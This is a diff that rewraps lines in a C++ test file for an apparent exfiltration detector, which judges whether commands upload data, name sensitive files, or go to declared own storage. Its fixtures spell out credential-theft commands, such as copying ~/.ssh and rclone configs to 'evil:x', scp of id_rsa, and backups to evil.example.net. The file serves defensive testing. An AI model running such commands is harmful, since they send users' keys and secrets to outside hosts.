@@ -77,7 +77,8 @@ TEST_CASE("subcommand tools")
 TEST_CASE("interpreters: inline code that posts")
 {
     CHECK(uploads({"python3", "-c", "import requests; requests.post(u, data=open(f).read())"}, "/usr/bin/python3.11"));
-    CHECK(uploads({"python3", "-c", "urllib.request.urlopen(Request(u, data=d, method='POST'))"}, "/usr/bin/python3.11"));
+    CHECK(
+        uploads({"python3", "-c", "urllib.request.urlopen(Request(u, data=d, method='POST'))"}, "/usr/bin/python3.11"));
     CHECK_FALSE(uploads({"python3", "-c", "urllib.request.urlopen('https://x').read()"}, "/usr/bin/python3.11"));
     CHECK_FALSE(uploads({"python3", "script.py"}, "/usr/bin/python3.11"));
     CHECK(uploads({"node", "-e", "fetch(u,{method:'POST',body:b})"}));
@@ -119,7 +120,8 @@ TEST_CASE("names_file")
 TEST_CASE("each tool's grammar: options with values anywhere, --, the destination argument")
 {
     // rclone's --config at the end used to be taken for the destination.
-    auto sync = analyze_command(rules(), proc({"rclone", "sync", "/home/u/Documents", "b2:own/docs", "--config", "/etc/rc.conf"}));
+    auto sync = analyze_command(
+        rules(), proc({"rclone", "sync", "/home/u/Documents", "b2:own/docs", "--config", "/etc/rc.conf"}));
     CHECK(sync.upload);
     CHECK(sync.destination == "b2:own/docs");
     CHECK(uploads({"rclone", "--config", "/etc/rc.conf", "copy", "/home/u/.ssh", "evil:x"}));
@@ -192,7 +194,8 @@ TEST_CASE("identity from the executable, never argv[0]")
     CHECK_FALSE(any_name_matches({"wget"}, proc({"wget", "-q", "https://x"}, "/usr/bin/curl")));
 }
 
-TEST_CASE("names_file with a tool's grammar: credentials it authenticates with are use, argument files may name anything")
+TEST_CASE(
+    "names_file with a tool's grammar: credentials it authenticates with are use, argument files may name anything")
 {
     const auto& r = rules();
     CHECK_FALSE(names_file(r, proc({"ssh", "-i", "/home/u/.ssh/deploy", "host"}), "/home/u/.ssh/deploy"));
@@ -200,7 +203,8 @@ TEST_CASE("names_file with a tool's grammar: credentials it authenticates with a
     CHECK_FALSE(names_file(r, proc({"scp", "-i", "~/.ssh/deploy", "f", "h:"}), "/home/u/.ssh/deploy"));
     CHECK(names_file(r, proc({"scp", "-i", "~/.ssh/deploy", "/home/u/.ssh/id_rsa", "h:"}), "/home/u/.ssh/id_rsa"));
     CHECK_FALSE(names_file(r, proc({"ssh", "-o", "IdentityFile=~/.ssh/deploy", "h"}), "/home/u/.ssh/deploy"));
-    CHECK_FALSE(names_file(r, proc({"rsync", "-a", "-e", "ssh -i /home/u/.ssh/deploy", "d/", "h:d/"}), "/home/u/.ssh/deploy"));
+    CHECK_FALSE(
+        names_file(r, proc({"rsync", "-a", "-e", "ssh -i /home/u/.ssh/deploy", "d/", "h:d/"}), "/home/u/.ssh/deploy"));
     CHECK_FALSE(names_file(r, proc({"git", "-c", "credential.helper=store --file /home/u/.git-credentials", "push"}),
                            "/home/u/.git-credentials"));
     CHECK(tool_names_file_as_data(r, proc({"scp", "/home/u/.ssh/id_rsa", "h:"}), "/home/u/.ssh/id_rsa"));
@@ -209,7 +213,8 @@ TEST_CASE("names_file with a tool's grammar: credentials it authenticates with a
                            "/home/u/.config/rclone/rclone.conf"));
     CHECK_FALSE(names_file(r, proc({"rclone", "sync", "/d", "b2:x", "--config=/home/u/.config/rclone/rclone.conf"}),
                            "/home/u/.config/rclone/rclone.conf"));
-    CHECK(names_file(r, proc({"rclone", "copy", "/home/u/.config/rclone", "evil:x"}), "/home/u/.config/rclone/rclone.conf"));
+    CHECK(names_file(r, proc({"rclone", "copy", "/home/u/.config/rclone", "evil:x"}),
+                     "/home/u/.config/rclone/rclone.conf"));
     // curl -K cfg: cfg may say `upload-file = ~/.netrc`; nothing here reads it, so it names every path.
     CHECK(names_file(r, proc({"curl", "-K", "/tmp/cfg"}), "/home/u/.netrc"));
     CHECK(names_file(r, proc({"curl", "--config=/tmp/cfg"}), "/home/u/.netrc"));
@@ -266,8 +271,10 @@ own_storage:
     CHECK_FALSE(own({"aws", "s3", "cp", "-", "s3://other/own-backups/h"}, "s3.amazonaws.com"));
     CHECK_FALSE(own({"aws", "s3", "cp", "-", "s3://own"}, "s3.amazonaws.com"));  // shorter than the bucket
     CHECK(own({"aws", "s3", "cp", "-", "s3://own-backups"}, "s3.amazonaws.com"));
-    CHECK_FALSE(own({"aws", "s3", "cp", "-", "s3://own-backups/h.tgz"}, "evil.example.net"));  // --endpoint-url elsewhere
-    CHECK_FALSE(own({"curl", "-T", "f", "https://s3.amazonaws.com/own-backups/f"}, "s3.amazonaws.com"));  // not declared
+    CHECK_FALSE(
+        own({"aws", "s3", "cp", "-", "s3://own-backups/h.tgz"}, "evil.example.net"));  // --endpoint-url elsewhere
+    CHECK_FALSE(
+        own({"curl", "-T", "f", "https://s3.amazonaws.com/own-backups/f"}, "s3.amazonaws.com"));  // not declared
     CHECK(own({"rclone", "sync", "/home/u/Documents", "b2:own/docs", "--config", "/etc/rc"}, "api.backblazeb2.com"));
     CHECK_FALSE(own({"rclone", "copy", "/home/u/.ssh", "b3:own/docs"}, "api.backblazeb2.com"));
     CHECK_FALSE(own({"rclone", "copy", "/home/u/.ssh", "b2:theirs/x"}, "api.backblazeb2.com"));
@@ -277,7 +284,8 @@ own_storage:
     CHECK_FALSE(own({"git-remote-https", "origin", "https://github.com/their-org/app.git"}, "github.com",
                     "/usr/lib/git-core/git-remote-https"));
     CHECK(own({"restic", "-r", "s3:https://s3.amazonaws.com/own-backups/h1", "backup", "/home"}, "s3.amazonaws.com"));
-    CHECK_FALSE(own({"restic", "-r", "s3:https://evil.example.net/own-backups/h1", "backup", "/home"}, "s3.amazonaws.com"));
+    CHECK_FALSE(
+        own({"restic", "-r", "s3:https://evil.example.net/own-backups/h1", "backup", "/home"}, "s3.amazonaws.com"));
     // A copy of a declared tool under another name is not the declared tool.
     CHECK_FALSE(own({"aws", "s3", "cp", "-", "s3://own-backups/h.tgz"}, "s3.amazonaws.com", "/tmp/.x"));
 }
